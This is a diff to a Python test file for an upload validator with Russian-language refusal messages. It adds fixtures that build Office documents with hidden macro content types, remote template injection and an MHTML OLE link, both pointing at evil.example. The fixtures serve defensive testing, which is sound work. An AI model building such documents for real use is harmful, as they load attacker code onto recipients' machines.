@@ -36,6 +36,27 @@ def macro_enabled_by_type():
     return packed({"[Content_Types].xml": types, "word/document.xml": "<d/>"})
 
 
+def macro_enabled_far_behind():
+    types = (
+        f'<Types><!--{"x" * 70_000}--><Default ContentType="application/vnd.ms-office.vbaProject"/></Types>'
+    )
+    return packed({"[Content_Types].xml": types.encode("utf-16"), "word/document.xml": "<d/>"})
+
+
+def fetching(kind, target, mode="External"):
+    """A document with a part of this kind that lies elsewhere."""
+    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    row = f'<Relationship Id="a" Type="{kinds}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    listed = f"<Relationships>{row}</Relationships>"
+    return packed(
+        {
+            "[Content_Types].xml": "<Types/>",
+            "word/document.xml": "<d/>",
+            "word/_rels/settings.xml.rels": listed,
+        }
+    )
+
+
 def open_document_with_basic():
     return packed({"mimetype": "x", "content.xml": "<d/>", "Basic/Standard/Module1.xml": "<m/>"})
 
@@ -85,6 +106,11 @@ OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
         ("архив.zip", packed({f"{n}.txt": "x" for n in range(2001)}), "разворачивается"),
         ("письмо.docx", with_macros(), "макросы"),
         ("письмо.docx", macro_enabled_by_type(), "макросы"),
+        ("письмо.docx", macro_enabled_far_behind(), "макросы"),
+        ("письмо.docx", fetching("attachedTemplate", "https://evil.example/x.dotm"), "макросы"),
+        ("письмо.docx", fetching("oleObject", "mhtml:https://evil.example/x!x-usc:y"), "макросы"),
+        ("письмо.docx", fetching("vbaProject", "x.bin", "Internal"), "макросы"),
+        ("архив.zip", packed({"п.docx": fetching("attachedTemplate", "HTTPS://evil.example/x")}), "макросы"),
         ("письмо.odt", open_document_with_basic(), "макросы"),
         ("старое.doc", OLE + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 600, "макросы"),
         ("письмо.docm", with_macros(), "не принимаются"),
@@ -117,6 +143,10 @@ def test_it_is_refused_with_a_sentence(name, content, says):
             ),
         ),
         ("архив.zip", packed({"список.csv": "Город;Число"})),
+        # A template on the author's disk or in the office's network, and a link, are usual.
+        ("письмо.docx", fetching("attachedTemplate", "file:///C:/Шаблоны/Бланк.dotx")),
+        ("письмо.docx", fetching("attachedTemplate", "\\\\server\\blank.dotx")),
+        ("письмо.docx", fetching("hyperlink", "https://sochi.example/")),
         ("письмо.docx", docx()),
         ("старое.doc", OLE),
         ("письмо.odt", packed({"mimetype": "x", "content.xml": "<d/>"})),
